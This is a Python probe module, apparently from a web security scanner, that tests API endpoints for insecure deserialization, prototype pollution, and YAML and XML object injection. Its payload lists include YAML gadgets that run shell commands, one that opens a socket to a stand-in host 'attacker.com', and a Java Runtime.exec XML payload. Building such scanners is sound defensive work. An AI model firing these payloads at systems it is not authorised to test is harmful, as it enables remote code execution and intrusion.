"""
Insecure deserialization probe.
"""

import base64
import json
import logging
import re
from dataclasses import dataclass

from dast_scanner.matching import first_match, rule_table
from dast_scanner.models import CookieInfo, Finding, ProbeResponse, Severity
from dast_scanner.probes.base import INTEGRITY_FAILURES, ProbeContext, truncate

logger = logging.getLogger(__name__)

NAME = "deserialization"


@dataclass(frozen=True)
class SerializedPayload:
    name: str
    content: str


SERIALIZED_PAYLOADS = [
    SerializedPayload(
        "Java Serialized Object",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADmphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTExqYXZhL2xhbmcvU3RyaW5nO0wABGZpbGVxAH4AA0wABGhvc3RxAH4AA0wABHByb3R0AH4AA0wACHByb3RvY29scQB+AAN4cA==",
    ),
    SerializedPayload(
        "PHP Serialized",
        'O:8:"stdClass":1:{s:4:"test";s:8:"testval";}',
    ),
    SerializedPayload(
        "PHP PHAR",
        base64.b64encode(bytes([0x50, 0x48, 0x50, 0x00, 0x00, 0x00, 0x00])).decode("ascii"),
    ),
    SerializedPayload(
        "Python Pickle",
        "gASVDQAAAAAAAACMCXRlc3RfdmFsdWWULg==",
    ),
    SerializedPayload(
        "Ruby Marshal",
        base64.b64encode(bytes([0x04, 0x08])).decode("ascii"),
    ),
    SerializedPayload(
        "Node.js vm.Script",
        '{"constructor": {"prototype": {"isAdmin": true}}}',
    ),
    SerializedPayload(
        "Base64 encoded data",
        "/wEPDwUKLTkyMzQ1Njc4OQ9kFgICAw9kFgICCw9kFgJmD2QWAgIBD2QWBAIBDxYCHgRUZXh0BRNIZWxsbyBmcm9tIFZpZXdTdGF0ZWRkAgMPFgIfAAUTSGVsbG8gZnJvbSBWaWV3U3RhdGVkZGQYAgUeX19Db250cm9sc1JlcXVpcmVQb3N0QmFja0tleV9fFgEFBGN0bDE=",
    ),
]

DESERIALIZATION_ERROR_RULES = rule_table(
    [
        r"java\.io\.",
        r"java\.lang\.",
        r"ClassNotFoundException",
        r"InvalidClassException",
        r"StreamCorruptedException",
        r"unserialize\(\)",
        r"__PHP_Incomplete_Class",
        r"unpickling",
        r"PickleError",
        r"marshal data too short",
        r"undefined method",
        r"NoMethodError",
        r"Invalid payload",
        r"DeserializationException",
        r"ObjectInputStream",
        r"ObjectOutputStream",
    ],
    flags=re.I,
    title="Insecure Deserialization Detected",
    severity=Severity.CRITICAL,
    cwe="CWE-502",
    owasp=INTEGRITY_FAILURES,
    recommendation="Avoid deserializing untrusted data. Use JSON or implement strict type constraints.",
)

SUCCESS_INDICATORS = ["object", "class", "instance", "deserialized", "processed"]

API_ENDPOINTS = [
    "/api/data",
    "/api/process",
    "/api/import",
    "/api/deserialize",
    "/api/object",
    "/api/execute",
]

PHP_SERIALIZED = re.compile(r"^[a-z]:\d+:")

PROTOTYPE_POLLUTION_PAYLOADS = [
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"__proto__": {"isAdmin": True}},
    {"constructor": {"prototype": {"polluted": True}}},
    {"__proto__.polluted": True},
]
POLLUTION_ENDPOINTS = ["/api/users", "/api/settings", "/api/config", "/api/data"]

YAML_PAYLOADS = [
    '!!python/object/apply:os.system ["id"]',
    '!!python/object/new:subprocess.Popen [["/bin/sh", "-c", "id"]]',
    '!!java.io.PrintWriter [!!java.net.Socket ["attacker.com", 4444]]',
]
YAML_ENDPOINTS = ["/api/yaml", "/api/parse", "/api/config", "/api/import"]
EXEC_INDICATORS = ["uid=", "gid=", "root", "Windows IP Configuration", "Name: "]

XML_OBJECT_PAYLOADS = [
    """<java>
  <object class="java.lang.Runtime" method="getRuntime">
    <method name="exec">
      <array class="java.lang.String" length="1">
        <void index="0"><string>id</string></void>
      </array>
    </method>
  </object>
</java>""",
    """<serialized class="java.util.HashMap">
  <entry>
    <string>key</string>
    <string>value</string>
  </entry>
</serialized>""",
]
XML_ENDPOINTS = ["/api/xml", "/api/soap", "/api/process", "/api/import"]
XML_MARKERS = ("java.io", "Runtime", "exec")


def evaluate_payload(endpoint: str, response: ProbeResponse, payload: str | None = None) -> list[Finding]:
    findings = []
    rule = first_match(DESERIALIZATION_ERROR_RULES, response.body)
    if rule is not None:
        findings.append(rule.to_finding(
            endpoint,
            payload=payload,
            evidence=f"Pattern matched: {rule.source}",
            description=f'Endpoint "{endpoint}" appears to deserialize untrusted data',
        ))

    if response.status == 200:
        body = response.body.lower()
        indicator = next((i for i in SUCCESS_INDICATORS if i in body), None)
        if indicator:
            findings.append(Finding(
                severity=Severity.HIGH,
                title="Potential Insecure Deserialization",
                description=f'Endpoint "{endpoint}" may deserialize user input',
                url=endpoint,
                payload=payload,
                evidence=f'Response indicator: "{indicator}"',
                cwe="CWE-502",
                owasp=INTEGRITY_FAILURES,
                recommendation="Validate and sanitize all serialized data before deserialization",
            ))
    return findings


def check_cookie(cookie: CookieInfo, page_url: str) -> list[Finding]:
    findings = []
    value = cookie.value
    if value.startswith("rO0AB") or "H4sI" in value:
        findings.append(Finding(
            severity=Severity.CRITICAL,
            title="Java Serialized Object in Cookie",
            description=f'Cookie "{cookie.name}" contains Java serialized data',
            url=page_url,
            evidence=f"Value starts with: {value[:20]}...",
            cwe="CWE-502",
            owasp=INTEGRITY_FAILURES,
            recommendation="Avoid storing serialized objects in cookies. Use signed/encrypted tokens instead.",
        ))
    if PHP_SERIALIZED.match(value):
        findings.append(Finding(
            severity=Severity.HIGH,
            title="PHP Serialized Data in Cookie",
            description=f'Cookie "{cookie.name}" contains PHP serialized data',
            url=page_url,
            evidence=f"Value: {value[:50]}...",
            cwe="CWE-502",
            owasp=INTEGRITY_FAILURES,
            recommendation="Avoid storing serialized data in cookies. Use JSON Web Tokens instead.",
        ))
    return findings


def evaluate_pollution(endpoint: str, payload: dict, check_body: str) -> Finding | None:
    """Pollution persisted if the follow-up GET mentions the injected property."""
    if "isAdmin" not in check_body and "polluted" not in check_body:
        return None
    return Finding(
        severity=Severity.CRITICAL,
        title="Prototype Pollution Vulnerability",
        description=f'Endpoint "{endpoint}" is vulnerable to prototype pollution',
        url=endpoint,
        payload=json.dumps(payload, separators=(",", ":")),
        cwe="CWE-915",
        owasp=INTEGRITY_FAILURES,
        recommendation="Use Object.freeze(Object.prototype) or libraries that prevent prototype pollution",
    )


def evaluate_yaml(endpoint: str, response: ProbeResponse) -> Finding | None:
    if not any(indicator in response.body for indicator in EXEC_INDICATORS):
        return None
    return Finding(
        severity=Severity.CRITICAL,
        title="YAML Deserialization RCE",
        description=f'Endpoint "{endpoint}" executes code from YAML input',
        url=endpoint,
        evidence=f"Output: {response.body[:200]}",
        cwe="CWE-502",
        owasp=INTEGRITY_FAILURES,
        recommendation="Use safe_yaml or similar libraries that disable arbitrary object deserialization",
    )


def evaluate_xml(endpoint: str, response: ProbeResponse) -> Finding | None:
    if not any(marker in response.body for marker in XML_MARKERS):
        return None
    return Finding(
        severity=Severity.CRITICAL,
        title="XML Deserialization Vulnerability",
        description=f'Endpoint "{endpoint}" may deserialize XML to objects',
        url=endpoint,
        evidence=truncate(response.body),
        cwe="CWE-502",
        owasp=INTEGRITY_FAILURES,
        recommendation="Disable XML deserialization or use a safe parser configuration",
    )


async def run(ctx: ProbeContext) -> None:
    for endpoint in API_ENDPOINTS:
        for payload in SERIALIZED_PAYLOADS:
            response = await ctx.http.post(
                endpoint,
                json_body={"data": payload.content, "object": payload.content, "input": payload.content},
                timeout=10,
            )
            if response is None:
                continue
            ctx.report(evaluate_payload(endpoint, response, payload.name))

    browser = ctx.require_browser(NAME)
    if browser is not None:
        home = await browser.visit("/")
        if home is not None:
            for cookie in home.cookies:
                ctx.report(check_cookie(cookie, home.url))

    for endpoint in POLLUTION_ENDPOINTS:
        for payload in PROTOTYPE_POLLUTION_PAYLOADS:
            polluted = await ctx.http.post(endpoint, json_body=payload, timeout=10)
            if polluted is None:
                continue
            check = await ctx.http.get(endpoint, timeout=10)
            if check is None:
                continue
            finding = evaluate_pollution(endpoint, payload, check.body)
            if finding:
                ctx.report([finding])

    for endpoint in YAML_ENDPOINTS:
        for payload in YAML_PAYLOADS:
            response = await ctx.http.post(
                endpoint, content=payload, headers={"Content-Type": "application/x-yaml"}, timeout=10
            )
            if response is None:
                continue
            finding = evaluate_yaml(endpoint, response)
            if finding:
                ctx.report([finding])

    for endpoint in XML_ENDPOINTS:
        for payload in XML_OBJECT_PAYLOADS:
            response = await ctx.http.post(
                endpoint, content=payload, headers={"Content-Type": "application/xml"}, timeout=10
            )
            if response is None:
                continue
            finding = evaluate_xml(endpoint, response)
            if finding:
                ctx.report([finding])
